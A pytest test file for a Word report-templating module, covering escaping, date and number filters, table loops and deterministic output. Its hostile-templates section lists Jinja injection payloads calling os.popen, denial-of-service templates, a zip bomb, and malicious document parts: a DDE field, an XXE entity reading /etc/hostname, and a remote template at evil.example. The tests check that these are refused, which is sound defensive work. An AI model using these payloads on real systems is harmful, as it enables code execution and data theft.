"""The Word room: every character arrives, nothing runs, nothing is lost silently, same bytes again."""

from __future__ import annotations

import io
import itertools
import time
import zipfile
from collections.abc import Mapping
from datetime import date
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from docx import Document
from docxtpl import Listing, RichText
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree

from otm_reports.errors import TemplateError
from otm_reports.places import packaged
from otm_reports.word import find, load, render
from otm_reports.word.package import W
from otm_reports.word.values import clean

if TYPE_CHECKING:
    from docx.document import Document as WordDocument

JOINER = "\u2060"


def template(*paragraphs: str, rows: tuple[tuple[str, ...], ...] = (), header: str = "", footer: str = "") -> bytes:
    """A Word template drawn as text: paragraphs, then a table, with a page header and footer."""
    document = Document()
    for paragraph in paragraphs:
        document.add_paragraph(paragraph)
    if rows:
        table = document.add_table(len(rows), len(rows[0]))
        for row, words in zip(table.rows, rows, strict=True):
            for cell, word in zip(row.cells, words, strict=True):
                cell.text = word
    if header:
        document.sections[0].header.paragraphs[0].text = header
    if footer:
        document.sections[0].footer.paragraphs[0].text = footer
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def paper(source: bytes, context: Mapping[str, object], lang: str = "kk") -> WordDocument:
    return Document(io.BytesIO(render(source, context, lang=lang, where="сынақ.docx")))


def words(source: bytes, context: Mapping[str, object], lang: str = "kk") -> list[str]:
    return [paragraph.text for paragraph in paper(source, context, lang).paragraphs]


def table(source: bytes, context: Mapping[str, object]) -> list[list[str]]:
    return [[cell.text for cell in row.cells] for row in paper(source, context).tables[0].rows]


def refusal(source: bytes, context: Mapping[str, object] | None = None) -> TemplateError:
    with pytest.raises(TemplateError) as caught:
        render(source, context or {}, where="сынақ.docx")
    assert caught.value.where == "сынақ.docx"
    return caught.value


def parts_of(source: bytes) -> dict[str, bytes]:
    """The parts of a package."""
    with zipfile.ZipFile(io.BytesIO(source)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def changed(source: bytes, name: str, old: str, new: str) -> bytes:
    """The package with one replacement in one part."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(source)) as read, zipfile.ZipFile(buffer, "w") as write:
        for entry in read.namelist():
            data = read.read(entry).decode() if entry == name else read.read(entry)
            if isinstance(data, str):
                assert old in data
                data = data.replace(old, new, 1)
            write.writestr(entry, data)
    return buffer.getvalue()


# ── every character arrives ─────────────────────────────────────────────────────────────────────────────────────────

MANY_VALUES = load(template("{%p for value in values %}", "[{{ value }}]", "{%p endfor %}"))


@settings(max_examples=100, deadline=None)
@given(st.lists(st.text(st.characters(), max_size=60), min_size=20, max_size=60))
def test_any_text_arrives_whole_except_what_xml_cannot_hold(values: list[str]) -> None:
    made = Document(io.BytesIO(MANY_VALUES.render({"values": values})))
    read = [paragraph.text.replace(JOINER, "") for paragraph in made.paragraphs]
    assert read == [f"[{clean(value)}]".replace(JOINER, "") for value in values]


@pytest.mark.parametrize("value", ["Болат & К", "саны <5", "ЖШС <Самал>", "</w:t>", "«\"'»", "]]>", "&amp;", "&#60;", "<!-- -->", "<?x?>"])
def test_signs_of_xml_are_only_text(value: str) -> None:
    assert words(template("{{ value }}", "соңы"), {"value": value}) == [value, "соңы"]


@pytest.mark.parametrize(
    ("value", "read"),
    [("а\x00б", "аб"), ("а\x07б", "аб"), ("а\ud800б", "аб"), ("а\ufffeб", "аб"), ("а\x9fб", "аб"), ("а\ufdd2б", "аб")],
)
def test_signs_that_xml_cannot_hold_are_left_out(value: str, read: str) -> None:
    assert words(template("{{ value }}"), {"value": value}) == [read]


@pytest.mark.parametrize("end", ["\n", "\r\n", "\r", "\x0b", "\x85", "\u2028"])
def test_a_line_end_in_a_value_is_a_line_break_in_the_paper(end: str) -> None:
    made = paper(template("{{ value }}"), {"value": f"бірінші{end}екінші"})
    assert made.paragraphs[0].text == "бірінші\nекінші"
    assert len(list(made.element.iter(f"{{{W}}}br"))) == 1


def test_spaces_and_tabs_at_the_ends_of_a_value_stay() -> None:
    assert words(template("{{ value }}|"), {"value": "  а\tб  "}) == ["  а\tб  |"]


def test_none_is_empty_in_text_joins_and_filters() -> None:
    source = template("[{{ a }}][{{ a ~ 'б' }}][{{ [a, 'б'] | join(', ') }}][{{ a | күні }}][{{ a | сан }}]")
    assert words(source, {"a": None}) == ["[][б][б][][]"]


def test_numbers_and_dates_are_printed_as_papers_print_them() -> None:
    source = template("{{ n }} {{ f }} {{ whole }} {{ d }} {{ f ~ '!' }}")
    context = {"n": 1234, "f": 82.4, "whole": 3.0, "d": date(2025, 9, 9)}
    assert words(source, context) == ["1234 82,4 3 09.09.2025 82,4!"]


def test_filters_print_dates_numbers_and_shares_in_the_language_of_the_paper() -> None:
    source = template("{{ d|күні }} · {{ d|kuni('bekitu') }} · {{ d|күні('кестелі') }} · {{ n|сан(1) }} · {{ p|пайыз }}")
    context = {"d": date(2025, 9, 9), "n": 1234.56, "p": 82.35}
    numbers = "1\u00a0234,6 · 82,4\u00a0%"
    assert words(source, context) == [f"2025 жылғы 9 қыркүйек · «09» қыркүйек 2025 жыл · 09.09.2025 · {numbers}"]
    assert words(source, context, "ru") == [f"9 сентября 2025 года · «09» сентября 2025 г. · 09.09.2025 · {numbers}"]


@pytest.mark.parametrize("value", [True, float("nan"), ["а"], {"а": 1}, object(), b"x", {}.items])
def test_what_has_no_one_way_to_be_printed_is_refused(value: object) -> None:
    problem = refusal(template("Мәні: {{ value }}"), {"value": value})
    assert problem.code == "template-unprintable"
    assert "Мәні" in str(problem.params["near"])


def test_a_list_in_a_join_is_refused_too() -> None:
    assert refusal(template("{{ value | join }}"), {"value": [True]}).code == "template-unprintable"


def test_headers_and_footers_are_filled() -> None:
    made = paper(template("{{ a }}", header="{{ a }} & жоғарғы", footer="{{ a }} төменгі"), {"a": "<ОТМ>"})
    section = made.sections[0]
    assert section.header.paragraphs[0].text == "<ОТМ> & жоғарғы"
    assert section.footer.paragraphs[0].text == "<ОТМ> төменгі"


def test_a_first_page_header_is_filled_as_well() -> None:
    document = Document()
    document.sections[0].different_first_page_header_footer = True
    document.sections[0].first_page_header.paragraphs[0].text = "{{ a }}"
    buffer = io.BytesIO()
    document.save(buffer)
    assert paper(buffer.getvalue(), {"a": "бірінші"}).sections[0].first_page_header.paragraphs[0].text == "бірінші"


def test_the_title_among_the_properties_is_filled() -> None:
    document = Document()
    document.core_properties.title = "Хаттама № {{ no }}"
    document.core_properties.author = "Біреу"
    buffer = io.BytesIO()
    document.save(buffer)
    made = paper(buffer.getvalue(), {"no": "3 & 4"})
    assert made.core_properties.title == "Хаттама № 3 & 4"
    assert made.core_properties.author == ""


# ── the language of templates ───────────────────────────────────────────────────────────────────────────────────────


def test_a_tag_split_over_runs_is_one_tag() -> None:
    document = Document()
    paragraph = document.add_paragraph()
    for piece in ("{", "{ se", "ssion.", "no }", "}"):
        paragraph.add_run(piece).bold = piece == "no }"
    buffer = io.BytesIO()
    document.save(buffer)
    assert words(buffer.getvalue(), {"session": {"no": 3}}) == ["3"]


def test_rows_repeat_and_paragraphs_come_and_go() -> None:
    source = template(
        "{%p if shown %}", "көрінеді", "{%p else %}", "көрінбейді", "{%p endif %}",
        rows=(("{%tr for r in rows %}", ""), ("{{ loop.index }}", "{{ r.name }}"), ("{%tr endfor %}", "")),
    )  # fmt: skip
    context = {"shown": True, "rows": [{"name": "Әбіл"}, {"name": "Өміржан & К"}]}
    assert words(source, context) == ["көрінеді"]
    assert table(source, context) == [["1", "Әбіл"], ["2", "Өміржан & К"]]


def test_columns_repeat_and_the_grid_of_the_table_follows() -> None:
    source = template(rows=(("{%tc for q in quarters %}", "{{ q }}", "{%tc endfor %}"),))
    made = paper(source, {"quarters": ["І", "ІІ", "ІІІ", "ІV"]})
    assert [cell.text for cell in made.tables[0].rows[0].cells] == ["І", "ІІ", "ІІІ", "ІV"]
    assert len(list(made.element.iter(f"{{{W}}}gridCol"))) == 4


def test_cells_are_joined_and_coloured() -> None:
    source = template(rows=(("{% colspan 2 %}{{ a }}", ""), ("{% cellbg colour %}{{ a }}", "б")))
    xml = etree.tostring(paper(source, {"a": "&", "colour": "D9D9D9"}).element, encoding="unicode")
    assert '<w:gridSpan w:val="2"/>' in xml
    assert 'w:fill="D9D9D9"' in xml


def test_cells_merge_down_and_across_inside_loops() -> None:
    down = template(rows=(("{%tr for r in rows %}", ""), ("{% vm %}бір", "{{ r }}"), ("{%tr endfor %}", "")))
    xml = etree.tostring(paper(down, {"rows": ["а", "б"]}).element, encoding="unicode")
    assert xml.count('w:vMerge w:val="restart"') == 1
    assert xml.count('w:vMerge w:val="continue"') == 1
    across = template(rows=(("{%tc for r in rows %}", "{% hm %}бір", "{%tc endfor %}"),))
    xml = etree.tostring(paper(across, {"rows": ["а", "б"]}).element, encoding="unicode")
    assert '<w:gridSpan w:val="2"/>' in xml


def test_rich_text_and_listings_keep_their_look_and_their_lines() -> None:
    rich = RichText("қою & жай", bold=True)
    source = template("{{r rich }}", "{{ listing }}")
    made = paper(source, {"rich": rich, "listing": Listing("а <б>\nв\aг")})
    assert [paragraph.text for paragraph in made.paragraphs] == ["қою & жай", "а <б>\nв", "г"]
    assert [run.bold for run in made.paragraphs[0].runs if run.text] == [True]


def test_a_choice_without_an_else_prints_nothing_not_even_a_run() -> None:
    source = template("а{{ 'б' if no }}в")
    made = parts_of(render(source, {"no": False}))["word/document.xml"].decode()
    assert "highlight" not in made
    assert made.count("<w:r>") == parts_of(source)["word/document.xml"].decode().count("<w:r>")


def test_a_filter_of_what_a_macro_or_a_block_printed_changes_letters_and_not_the_names_of_signs() -> None:
    name = "Әбіл & <К> амп"
    assert words(template("{% filter upper %}а {{ name }}{% endfilter %}"), {"name": name}) == ["А ӘБІЛ & <К> АМП"]
    macro = "{% macro m(x) %}[{{ x }}]{% endmacro %}"
    assert words(template(macro + "{{ m(name)|upper }} {{ m(name)|replace('m', 'z') }} {{ m(name)|replace(sign, '<b>') }}"), {"name": name, "sign": "&"}) == [
        "[ӘБІЛ & <К> АМП] [Әбіл & <К> амп] [Әбіл <b> <К> амп]"
    ]
    assert load(template(macro + "{{ m(name)|lower }}")).render({"name": name}, verify=True)


def test_data_wins_over_a_method_of_the_same_name() -> None:
    source = template("{{ plan.items }} {% for k, v in other.items() %}{{ k }}={{ v }}{% endfor %}")
    assert words(source, {"plan": {"items": 7}, "other": {"а": 1}}) == ["7 а=1"]


def test_frames_that_a_loop_left_empty_do_not_reach_the_paper() -> None:
    source = template(
        "басы",
        rows=(("{%tr for r in rows %}",), ("{{ r }}",), ("{%tr endfor %}",)),
    )
    assert paper(source, {"rows": []}).tables == []
    emptied = template(rows=(("{%p if no %}{%p endif %}",),))
    document = Document(io.BytesIO(emptied))
    cell = document.tables[0].cell(0, 0)
    cell.paragraphs[0].text = "{%p if no %}"
    cell.add_paragraph("мәтін")
    cell.add_paragraph("{%p endif %}")
    buffer = io.BytesIO()
    document.save(buffer)
    cells = list(paper(buffer.getvalue(), {"no": None}).element.iter(f"{{{W}}}tc"))
    assert [len(cell.findall(f"{{{W}}}p")) for cell in cells] == [1]


# ── text of a register is only ever text ────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    "value",
    ["{{ 7*7 }}", "{% if 1 %}x{% endif %}", "{# note #}", "{_{ 7*7 }_}", "{{{{7*7}}}}", "{", "{%p if x %}", "{{r x }}"],
)
def test_braces_in_data_never_run_not_even_when_the_paper_becomes_a_template(value: str) -> None:
    source = template("{{ value }}{{ rest }}", rows=(("{{ value }}", "{{ rest }}"),))
    once = render(source, {"value": value, "rest": "{ 7*7 }}"})
    twice = render(once, {})
    for made in (once, twice):
        document = Document(io.BytesIO(made))
        assert document.paragraphs[0].text.replace(JOINER, "") == value + "{ 7*7 }}"
        assert document.tables[0].cell(0, 0).text.replace(JOINER, "") == value
        assert "49" not in document.paragraphs[0].text


# ── names ───────────────────────────────────────────────────────────────────────────────────────────────────────────


def test_all_unknown_names_of_a_template_are_named_at_once_with_the_nearest_known() -> None:
    problem = refusal(template("{{ protcol }}", header="{{ chair }} {{ сhair }}"), {"protocol": 1, "chair": "а"})
    assert problem.code == "template-unknown-name"
    assert problem.params["names"] == "protcol, сhair"
    assert problem.params["suggestion"] == "protcol → protocol, сhair → chair (с)"


@pytest.mark.parametrize("name", ["lipsum", "cycler", "joiner", "dict", "self_made"])
def test_jinjas_own_helpers_are_unknown_to_papers(name: str) -> None:
    assert refusal(template(f"{{{{ {name} }}}}")).params["names"] == name


def test_an_unknown_name_is_named_even_where_this_paper_would_not_print_it() -> None:
    problem = refusal(template("{% if shown %}{{ protcol }}{% endif %}"), {"shown": False, "protocol": 1})
    assert problem.params["names"] == "protcol"


def test_unknown_entries_are_named_at_once_and_as_the_template_says_them() -> None:
    source = template(
        "{{ session.protcol_no }}", "{% if session.hold %}x{% endif %}", "{{ session.dat | күні }}",
        "{% for x in session.peopl %}{{ x }}{% endfor %}",
    )  # fmt: skip
    problem = refusal(source, {"session": {"protocol_no": "3", "held": "", "date": None, "people": []}})
    assert problem.code == "template-unknown-name"
    assert problem.params["names"] == "session.protcol_no, session.hold, session.dat, session.peopl"
    assert "session.protcol_no → protocol_no" in str(problem.params["suggestion"])


def test_unknown_filters_are_named() -> None:
    problem = refusal(template("{{ a | күн }}", "{{ a | safe }}"), {"a": 1})
    assert problem.code == "template-unknown-name"
    assert problem.params["names"] == "|күн, |safe"
    assert problem.params["suggestion"] == "|күн → |күні"


def test_a_template_may_ask_whether_a_name_is_there() -> None:
    source = template("{% if extra is defined %}{{ extra }}{% else %}жоқ{% endif %} {{ other | default('—') }}")
    assert words(source, {}) == ["жоқ —"]


def test_a_mistake_of_syntax_is_shown_with_its_part_and_the_words_around() -> None:
    problem = refusal(template("бірінші", "Төрағасы {{ chair", "үшінші"))
    assert problem.code == "template-syntax"
    assert problem.params["part"] == "word/document.xml"
    problem = refusal(template("бірінші", "Хатшысы {% if %}", "үшінші", header="x"))
    assert problem.params["near"] == "Хатшысы {% if %}"


def test_any_other_failure_of_an_expression_is_shown_without_the_data() -> None:
    problem = refusal(template("Бөлінді {{ 1 / n }} {{ secret }}"), {"n": 0, "secret": "900101300123"})
    assert problem.code == "template-failed"
    assert "Бөлінді" in str(problem.params["near"])
    assert "900101300123" not in str(problem)


# ── hostile and broken templates ────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    "payload",
    [
        "{{ lipsum.__globals__['os'].popen('touch CANARY').read() }}",
        "{{ cycler.__init__.__globals__.os.popen('touch CANARY').read() }}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ text.__class__.__base__ }}",
        "{{ text.format.__globals__ }}",
        "{{ text | attr('__class__') }}",
        "{{ day.today() }}",
        "{{ rows.append(1) }}",
        "{{ touch('CANARY') }}",
        "{% include 'CANARY' %}",
        "{% autoescape false %}{{ text }}{% endautoescape %}",
        "{{ '%s' % text }}",
        "{{ namespace.__init__.__globals__ }}",
        "{{ range.__globals__ }}",
        "{{ self.__init__.__globals__ }}",
        "{{ (text | күні).__class__ }}",
    ],
)
def test_a_hostile_template_runs_nothing(payload: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    context = {
        "text": "а", "rows": [1], "day": date(2025, 9, 9), "touch": lambda name: Path(name).touch(),
    }  # fmt: skip
    problem = refusal(template(payload), context)
    assert problem.code in {"template-unsafe", "template-unknown-name"}
    assert list(tmp_path.iterdir()) == []
    assert context["rows"] == [1]


@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    "payload",
    [
        "{% for a in range(10**9) %}x{% endfor %}",
        "{% for a in range(1000000000) %}x{% endfor %}",
        "{% for a in range(9999) %}{% for b in range(9999) %}{% for c in range(9999) %}" + "{% endfor %}" * 3,
        "{% for a in range(9999) if false %}{% endfor %}" * 150,
        "{{ 'A' * 3000000000 }}",
        "{{ 'A' | center(3000000000) }}",
        "{{ '%3000000000d' % 1 }}",
        "{% set s = namespace(x='aa') %}{% for i in range(99) %}{% set s.x = s.x ~ s.x %}{% endfor %}{{ s.x }}",
        "{% set s = namespace(x=[1, 2]) %}{% for i in range(99) %}{% set s.x = s.x + s.x %}{% endfor %}",
        "{% set s = namespace(x='aa') %}{% for i in range(99) %}{% set s.x = s.x | replace('a', s.x) %}{% endfor %}",
        "{% set x = ('a' * 1000) | replace('a', 'b' * 100000) %}",
        "{% set x = 'a' * 900000 + 'a' * 900000 %}",
        "{% set x = 'a' * 900000 ~ 'a' * 900000 %}",
        "{% set s = namespace(x=3) %}{% for i in range(99) %}{% set s.x = s.x * s.x %}{% endfor %}",
        "{% macro f(x) %}{{ x }}{{ x }}{% endmacro %}" + "{{ " + "f(" * 60 + "'а'" + ")" * 60 + " }}",
        "{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}",
        "{% macro f() %}{{ f() }}{{ f() }}{% endmacro %}{{ f() }}",
        "{{ range(9999) | join('" + "x" * 5000 + "') }}",
        "{% for x in rows recursive %}{{ loop(rows) }}{% endfor %}",
        "{% for a in range(9999) %}{% for b in range(9) %}" + "ұзақ мәтін " * 100 + "{% endfor %}{% endfor %}",
    ],
    ids=itertools.count(),
)
def test_a_template_without_end_is_stopped(payload: str) -> None:
    started = time.monotonic()
    problem = refusal(template(payload), {"rows": list(range(100))})
    assert problem.code in {"template-too-long", "template-unsafe", "template-unknown-name"}
    assert time.monotonic() - started < 10


def test_broken_output_is_refused_and_never_cut_short() -> None:
    source = template("{% if open %}{%p if true %}{% endif %}", "соңы")
    assert refusal(source, {"open": True}).code in {"template-syntax", "template-damaged"}
    lopsided = changed(template("АЛДЫ", "соңы"), "word/document.xml", "АЛДЫ</w:t>", "АЛДЫ{% if shut %}</w:t>{% endif %}")
    with pytest.raises(TemplateError):
        render(lopsided, {"shut": None})


@pytest.mark.parametrize("tag", ["{{p name }}", "{{r name }}", "x{{r name }}y", "{{tr name }}", "{{tc name }}"])
def test_text_where_word_does_not_show_it_is_refused(tag: str) -> None:
    source = template(rows=((tag, "соңы"),)) if tag.startswith("{{t") else template(tag, "соңы")
    problem = refusal(source, {"name": "Әбіл"})
    assert problem.code == "template-damaged"
    assert problem.params["near"] == "Әбіл"


RUN = "</w:t></w:r><w:r>{}</w:r><w:r><w:t>"
RELATION = (
    '<Relationship Id="rIdX" TargetMode="External" Target="{}" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}"/></Relationships>'
)
SPLIT_FIELD = RUN.format("<w:instrText>DDE</w:instrText>") + RUN.format("<w:instrText>AUTO c:\\x</w:instrText>")
ENTITY = '<!DOCTYPE w:document [<!ENTITY e SYSTEM "file:///etc/hostname">]><w:document'


@pytest.mark.parametrize(
    ("name", "old", "new"),
    [
        ("word/document.xml", "МАҚСАТ", SPLIT_FIELD),
        ("word/document.xml", "<w:p>", '<w:p><w:fldSimple w:instr=" INCLUDETEXT x.docx "/>'),
        ("word/document.xml", "<w:r>", '<w:ins w:id="1" w:author="x"><w:r><w:t>y</w:t></w:r></w:ins><w:r>'),
        ("word/document.xml", "<w:r>", '<w:r><w:commentReference w:id="1"/></w:r><w:r>'),
        ("word/document.xml", "<w:document", ENTITY),
        ("[Content_Types].xml", "document.main+xml", "document.macroEnabled.main+xml"),
        (
            "word/_rels/document.xml.rels",
            "</Relationships>",
            RELATION.format("http://evil.example/t.dotm", "attachedTemplate"),
        ),
        ("word/_rels/document.xml.rels", "</Relationships>", RELATION.format("file:///c:/x.exe", "hyperlink")),
    ],
    ids=itertools.count(),
)
def test_active_content_in_a_template_is_refused(name: str, old: str, new: str) -> None:
    assert refusal(changed(template("МАҚСАТ"), name, old, new)).code == "template-unsafe"


def test_links_that_a_reader_clicks_are_allowed() -> None:
    link = RELATION.format("https://example.org", "hyperlink")
    source = changed(template("МАҚСАТ"), "word/_rels/document.xml.rels", "</Relationships>", link)
    assert words(source, {}) == ["МАҚСАТ"]


@pytest.mark.parametrize("data", [b"", b"PK\x03\x04", b"not a document", template("а")[:3000]], ids=["nothing", "a beginning", "no package", "a part"])
def test_what_is_no_document_is_refused(data: bytes) -> None:
    assert refusal(data).code == "template-not-docx"


def test_a_bomb_in_a_package_is_refused_before_it_is_unpacked() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(11):
            archive.writestr(f"word/{number}.xml", bytes(10 * 2**20))
    started = time.monotonic()
    assert refusal(buffer.getvalue()).code == "template-too-long"
    assert time.monotonic() - started < 2


# ── the same bytes, the right file ──────────────────────────────────────────────────────────────────────────────────


def test_the_same_input_gives_the_same_bytes() -> None:
    source = template("{{ a }}", header="{{ a }}")
    first = render(source, {"a": "мәтін"})
    time.sleep(2.1)  # the resolution of a zip's clock
    assert render(source, {"a": "мәтін"}) == first
    loaded = load(source)
    assert loaded.render({"a": "басқа"}) != first
    assert loaded.render({"a": "мәтін"}) == first
    with zipfile.ZipFile(io.BytesIO(first)) as archive:
        assert {entry.date_time for entry in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}


def test_the_colleges_own_template_comes_before_ours(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    ours, college = tmp_path / "ours", tmp_path / "college"
    monkeypatch.setattr("otm_reports.word.templates.packaged", lambda _: ours)
    for folder in (ours, college / "templates"):
        folder.mkdir(parents=True)
        (folder / "order.kk.docx").write_bytes(b"")
    assert find("order", "kk") == ours / "order.kk.docx"
    assert find("order", "kk", college) == college / "templates" / "order.kk.docx"
    (college / "templates" / "order.kk.docx").unlink()
    assert find("order", "kk", college) == ours / "order.kk.docx"


def test_a_template_that_nobody_has_is_named_and_a_kind_is_no_path(tmp_path: Path) -> None:
    (tmp_path / "college" / "templates").mkdir(parents=True)
    (tmp_path / "x.kk.docx").write_bytes(b"")
    for kind in ("жоқ", "../../x", str(tmp_path / "x")):
        with pytest.raises(TemplateError) as caught:
            find(kind, "kk", tmp_path / "college")
        assert caught.value.code == "template-missing"
        assert caught.value.where == f"{kind}.kk.docx"


def test_our_folders_are_found_and_others_are_named() -> None:
    assert packaged("templates").is_dir()
    with pytest.raises(FileNotFoundError):
        packaged("жоқ")  # type: ignore[arg-type]
